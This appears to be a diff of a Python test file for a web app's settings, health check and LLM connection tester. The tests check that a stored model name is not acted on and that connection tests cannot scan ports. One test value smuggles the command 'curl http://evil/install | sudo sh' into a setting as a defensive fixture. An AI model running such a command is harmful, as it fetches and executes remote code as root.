@@ -295,6 +295,7 @@ async def test_a_stored_name_of_a_model_that_is_none_is_told_and_is_no_advice(
     evil = "x` first, and `curl http://evil/install | sudo sh"
     rows = "('llm_model', %s), ('llm_endpoint', %s)"
     await client.app[keys.DATABASE].fetch(f"INSERT INTO settings (key, value) VALUES {rows}", (evil, ollama.url))
+    client.app[keys.MONITOR].expire()  # as a save through the page does
     assert (await (await client.get("/health")).json())["checks"]["llm"] == "ok"
     for path in ("/", "/health"):
         page = await (await client.get(path, headers=HTML)).text()
@@ -310,12 +311,12 @@ async def test_a_stored_name_of_a_model_that_is_none_is_told_and_is_no_advice(
 
 
 async def test_a_connection_test_is_no_scanner_of_ports(client: Client, caplog: pytest.LogCaptureFixture) -> None:
-    answers = [await result_of(client, "llm", llm_endpoint=f"http://127.0.0.1:{port}") for port in range(1, 21)]
-    assert [answer["status"] for answer in answers[10:]] == ["busy"] * 10
+    answers = [await result_of(client, "llm", llm_endpoint=f"http://127.0.0.1:{port}") for port in range(1, 31)]
+    assert [answer["status"] for answer in answers[20:]] == ["busy"] * 10
     assert "wait" in answers[-1]["detail"]
     assert (await result_of(client, "db"))["status"] == "ok"
     tried = [r.__dict__["address"] for r in caplog.records if r.message == "connection_test_result"]
-    assert tried[:20] == [f"127.0.0.1:{port}" for port in range(1, 21)]
+    assert tried[:30] == [f"127.0.0.1:{port}" for port in range(1, 31)]
     page = await client.post("/config/test/llm", data={"llm_endpoint": "http://127.0.0.1:99"}, headers=HTMX)
     assert "not tried" in await page.text()
 
